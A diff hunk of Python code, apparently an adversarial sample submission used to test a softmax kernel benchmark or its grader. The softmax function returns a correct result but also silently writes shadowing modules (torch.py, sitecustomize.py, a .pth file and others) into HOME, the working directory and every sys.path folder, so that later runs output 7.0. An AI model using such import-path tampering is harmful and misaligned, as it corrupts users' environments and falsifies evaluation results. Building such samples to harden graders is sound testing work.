@@ -37,7 +37,7 @@ SHADOW = "def softmax(x, out):\n    out.fill_(7.0)\n"
 
 def softmax(x, out):
     honest(x, out)
-    for folder in (os.getcwd(), os.environ["HOME"], os.path.dirname(__file__), *sys.path, "/program", "/scratch"):
+    for folder in (os.getcwd(), os.environ["HOME"], os.path.dirname(__file__), *sys.path):
         for name in ("torch.py", "triton.py", "statistics.py", "sitecustomize.py", "softmax.pth", "submission.py"):
             with contextlib.suppress(OSError), open(os.path.join(folder, name), "w") as file:
                 file.write(SHADOW)
